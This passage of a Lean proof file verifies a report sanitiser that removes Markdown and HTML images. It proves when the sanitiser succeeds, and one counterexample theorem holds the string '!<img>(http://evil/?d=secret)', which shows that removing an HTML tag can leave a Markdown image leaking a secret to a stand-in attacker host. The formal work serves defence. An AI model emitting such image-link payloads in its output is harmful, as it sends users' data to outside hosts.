      rw [Option.isSome_iff_ne_none]
      intro hnone
      rw [hnone] at hsome
      exact hsome rfl
    exact hexposed ⟨after, hafter, usesImage_of_match hafter hmatch⟩

theorem sanitizeReport_eq_self {text : Str} (h : NoImage cls text) :
    sanitizeReport cls text = text := by
  rw [sanitizeReport, Replace.replaceAll_eq_self fun t ht => (h t ht).1,
    Replace.replaceAll_eq_self fun t ht => (h t ht).2]

end

/-- No image is left in a sanitised text, and sanitising it again changes nothing, exactly when no
removed image serves a `!` of the text as brackets. -/
theorem sanitizeReport_clean_iff (cls : CharClasses) (hcls : BracketsApart cls) (text : Str) :
    (NoImage cls (sanitizeReport cls text) ∧
        sanitizeReport cls (sanitizeReport cls text) = sanitizeReport cls text) ↔
      ¬ Exposed (pieces cls text) := by
  rw [← noImage_sanitizeReport_iff hcls]
  exact ⟨fun h => h.1, fun h => ⟨h, sanitizeReport_eq_self h⟩⟩

theorem bracketsApart_ascii : BracketsApart CharClasses.ascii :=
  ⟨by decide, by decide, by decide, by decide⟩

/-- Both images of a text with an exclamation mark of its own. -/
theorem sanitizeReport_clean_ascii :
    NoImage CharClasses.ascii (sanitizeReport CharClasses.ascii (lit "Oh! ![a](b)<img>")) ∧
      sanitizeReport CharClasses.ascii
          (sanitizeReport CharClasses.ascii (lit "Oh! ![a](b)<img>")) =
        sanitizeReport CharClasses.ascii (lit "Oh! ![a](b)<img>") := by
  apply (sanitizeReport_clean_iff CharClasses.ascii bracketsApart_ascii _).mpr
  have hpieces : pieces CharClasses.ascii (lit "Oh! ![a](b)<img>") =
      [kept 79, kept 104, kept 33, kept 32, image, image] := by decide +kernel
  rintro ⟨after, hafter, huses⟩
  rw [hpieces] at hafter
  have hspace : after = [kept 32, image, image] := by
    simpa [List.suffix_cons_iff] using hafter
  rw [hspace] at huses
  cases huses

/-- The mark of a removed HTML image becomes the label of a Markdown image that links to another
place. -/
theorem sanitizeReport_leaves_image :
    ¬ ∀ (cls : CharClasses) (text : Str), BracketsApart cls →
      NoImage cls (sanitizeReport cls text) := by
  intro h
  have hnone := (h CharClasses.ascii (lit "!<img>(http://evil/?d=secret)") bracketsApart_ascii
    _ (List.suffix_refl _)).1
  have hsome : (mdImageAt (sanitizeReport CharClasses.ascii
      (lit "!<img>(http://evil/?d=secret)"))).isSome = true := by decide +kernel
  rw [hnone] at hsome
  cases hsome

end Exports

end AuditSwarm
